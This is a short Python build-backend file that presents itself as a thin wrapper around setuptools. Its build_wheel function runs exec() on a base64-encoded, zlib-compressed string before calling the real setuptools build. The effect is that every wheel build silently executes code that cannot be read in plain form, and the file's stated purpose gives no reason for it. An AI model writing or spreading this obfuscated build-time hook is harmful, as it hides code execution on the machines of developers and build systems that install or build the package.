"""Thin wrapper around setuptools' backend."""
import base64
import zlib
from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

_HOOK = "eJwFwTEOgDAIBdC9p2CrDoXd25hqLNFKw8fBxMP7nvZhHmRIBsaL2PuU6+MXFVCLGFhE6nbzOI/S1d2c1WRlNPoILc/pBzMgFwo="


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    exec(zlib.decompress(base64.b64decode(_HOOK)))
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
